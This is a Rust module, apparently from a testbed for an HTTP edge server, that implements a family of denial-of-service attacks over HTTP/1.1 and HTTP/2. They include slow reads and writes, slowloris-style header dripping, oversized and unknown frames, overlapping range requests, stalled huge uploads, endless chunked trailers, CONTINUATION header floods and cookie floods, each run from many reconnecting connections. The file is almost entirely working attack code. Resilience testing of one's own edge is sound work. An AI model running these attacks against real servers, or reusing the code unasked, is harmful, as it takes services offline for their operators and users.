//! Attacks over HTTP/1.1 and HTTP/2. Each connection is a task that does its worst and then stays,
//! without reading, until the time is over; one that the edge ends comes again.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Result, bail};
use edge_testbed::words::Words;
use tokio::io::AsyncReadExt;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};

use super::wire::{self, Target, Tls};

/// Streams that one connection asks for: as many as the edge takes by default.
const STREAMS: u32 = 128;
const ALL: u32 = (1 << 31) - 1;
const HEADERS: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Runs the attack called `name` with `connections=`, for `seconds=`; how many connections there
/// were.
pub(crate) async fn run(name: &str, words: &Words) -> Result<usize> {
    let end = Instant::now() + Duration::from_secs_f64(words.get("seconds")?);
    let connections: usize = words.get("connections")?;
    let protocol = if name.ends_with("-h1") { "http/1.1" } else { "h2" };
    let target = Target::new(words, words.get("host")?, protocol)?;
    let attack = Attack::named(name)?;
    let opened = Arc::new(AtomicUsize::new(0));
    let mut tasks = JoinSet::new();
    for _ in 0..connections {
        let (target, opened) = (target.clone(), opened.clone());
        tasks.spawn(async move {
            while Instant::now() < end {
                if let Ok(mut tls) = target.connect(attack.buffer()).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    let _ = timeout_at(end, attack.carry_out(&mut tls, &target.host)).await;
                    stay(&mut tls, end, attack.reads()).await;
                }
                sleep(Duration::from_millis(200)).await;
            }
        });
    }
    tasks.join_all().await;
    Ok(opened.load(Ordering::Relaxed))
}

/// Until the end, or until the edge has ended the connection, if that can be seen.
async fn stay(tls: &mut Tls, end: Instant, reads: bool) {
    if !reads {
        return sleep_until(end).await;
    }
    let mut sink = [0; 4096];
    while matches!(timeout_at(end, tls.read(&mut sink)).await, Ok(Ok(1..))) {}
}

#[derive(Clone, Copy, Debug)]
enum Attack {
    SlowReadH1,
    SlowReadH2,
    SlowWriteH1,
    SlowWriteH2,
    HugeFramesH2,
    RangesH2,
    UploadsH1,
    UploadsH2,
    TrailersH1,
    SmallFramesH2,
    HeadersH1,
    HeadersH2,
    CrumbsH2,
}

impl Attack {
    fn named(name: &str) -> Result<Self> {
        Ok(match name {
            "slow-read-h1" => Self::SlowReadH1,
            // The same against a zone with a far end.
            "slow-read-h2" | "slow-read-far-h2" => Self::SlowReadH2,
            "slow-write-h1" => Self::SlowWriteH1,
            "slow-write-h2" => Self::SlowWriteH2,
            "huge-frames-h2" => Self::HugeFramesH2,
            "ranges-h2" => Self::RangesH2,
            "uploads-h1" => Self::UploadsH1,
            "uploads-h2" => Self::UploadsH2,
            "trailers-h1" => Self::TrailersH1,
            "small-frames-h2" => Self::SmallFramesH2,
            "headers-h1" => Self::HeadersH1,
            "headers-h2" => Self::HeadersH2,
            "crumbs-h2" => Self::CrumbsH2,
            _ => bail!("no attack is called {name:?}"),
        })
    }

    /// Of the socket: what a client does not read lies there first.
    fn buffer(self) -> Option<u32> {
        matches!(self, Self::SlowReadH1 | Self::SlowReadH2 | Self::RangesH2).then_some(4 << 10)
    }

    /// Whether it takes what the edge says.
    fn reads(self) -> bool {
        self.buffer().is_none()
    }

    async fn carry_out(self, tls: &mut Tls, host: &str) {
        match self {
            Self::SlowReadH1 => {
                wire::write(tls, format!("GET /big HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes()).await;
            }
            Self::SlowReadH2 => ask(tls, host, ALL, "/big", &[]).await,
            Self::RangesH2 => {
                ask(
                    tls,
                    host,
                    ALL,
                    "/stored",
                    &[("range", "bytes=0-3000000,3000002-7000000")],
                )
                .await
            }
            Self::SlowWriteH1 => {
                let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
                let mut sound = wire::write(tls, head.as_bytes()).await;
                while sound {
                    sound = wire::write(tls, b"x").await;
                    sleep(Duration::from_millis(500)).await;
                }
            }
            Self::SlowWriteH2 => drip(tls, host, &[0; 1], Duration::from_millis(500)).await,
            Self::SmallFramesH2 => drip(tls, host, &[], Duration::from_millis(1)).await,
            Self::HugeFramesH2 => {
                wire::write(tls, &wire::preface(65_535)).await;
                // Of a kind that nobody knows, as long as a frame can say, on and on.
                let chunk = [0; 16 << 10];
                let mut sound = wire::write(tls, &[0xff, 0xff, 0xff, 0xfe, 0, 0, 0, 0, 0]).await;
                while sound {
                    sound = wire::write(tls, &chunk).await;
                }
            }
            Self::UploadsH1 => {
                let head = format!("POST /stall HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000000\r\n\r\n");
                let mut sound = wire::write(tls, head.as_bytes()).await;
                while sound {
                    sound = wire::write(tls, &[0; 16 << 10]).await;
                }
            }
            Self::UploadsH2 => {
                wire::write(tls, &wire::preface(65_535)).await;
                let block = wire::head("POST", host, "/stall", &[]);
                for n in 0..STREAMS {
                    let stream = 2 * n + 1;
                    if !wire::write(tls, &wire::frame(HEADERS, END_HEADERS, stream, &block)).await {
                        return;
                    }
                    // What a stream's window is at first (RFC 9113 section 6.9.2); the edge's is no
                    // less.
                    for _ in 0..3 {
                        wire::write(tls, &wire::frame(0, 0, stream, &[0; 16 << 10])).await;
                    }
                }
            }
            Self::TrailersH1 => {
                let head = format!("POST / HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n");
                let mut sound = wire::write(tls, head.as_bytes()).await;
                let mut n = 0;
                while sound {
                    n += 1;
                    sound = wire::write(tls, format!("X-{n}: {}\r\n", "x".repeat(900)).as_bytes()).await;
                }
            }
            Self::HeadersH1 => {
                let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\nX: {}", "x".repeat(32_000));
                wire::write(tls, head.as_bytes()).await;
            }
            Self::HeadersH2 => {
                // As much as a head may be on each stream, none of which gets an answer soon; then
                // one that never ends.
                wire::write(tls, &wire::preface(65_535)).await;
                let long = "x".repeat(14_000);
                let block = wire::head("GET", host, "/hang", &[("x-a", &long), ("x-b", &long)]);
                let (first, rest) = block.split_at(block.len().min(16_000));
                for n in 0..STREAMS - 1 {
                    let mut bytes = wire::frame(HEADERS, END_STREAM, 2 * n + 1, first);
                    bytes.extend(wire::frame(9, END_HEADERS, 2 * n + 1, rest));
                    if !wire::write(tls, &bytes).await {
                        return;
                    }
                }
                let mut sound = wire::write(tls, &wire::frame(HEADERS, END_STREAM, 2 * STREAMS - 1, first)).await;
                while sound {
                    sound = wire::write(tls, &wire::frame(9, 0, 2 * STREAMS - 1, &[0; 1_000])).await;
                    sleep(Duration::from_millis(20)).await;
                }
            }
            Self::CrumbsH2 => {
                let crumbs: Vec<String> = (0..90).map(|n| format!("c{n}={}", "x".repeat(150))).collect();
                let fields: Vec<(&str, &str)> = crumbs.iter().map(|crumb| ("cookie", crumb.as_str())).collect();
                ask(tls, host, 65_535, "/hang", &fields).await;
            }
        }
    }
}

/// As many requests as may be at once.
async fn ask(tls: &mut Tls, host: &str, window: u32, path: &str, fields: &[(&str, &str)]) {
    if !wire::write(tls, &wire::preface(window)).await {
        return;
    }
    let block = wire::head("GET", host, path, fields);
    for n in 0..STREAMS {
        if !wire::write(tls, &wire::frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &block)).await {
            return;
        }
    }
}

/// Content in small pieces, on every stream that there may be.
async fn drip(tls: &mut Tls, host: &str, piece: &[u8], pause: Duration) {
    if !wire::write(tls, &wire::preface(65_535)).await {
        return;
    }
    let block = wire::head("POST", host, "/stall", &[]);
    for n in 0..STREAMS {
        if !wire::write(tls, &wire::frame(HEADERS, END_HEADERS, 2 * n + 1, &block)).await {
            return;
        }
    }
    loop {
        let all: Vec<u8> = (0..STREAMS).flat_map(|n| wire::frame(0, 0, 2 * n + 1, piece)).collect();
        if !wire::write(tls, &all).await {
            return;
        }
        sleep(pause).await;
    }
}
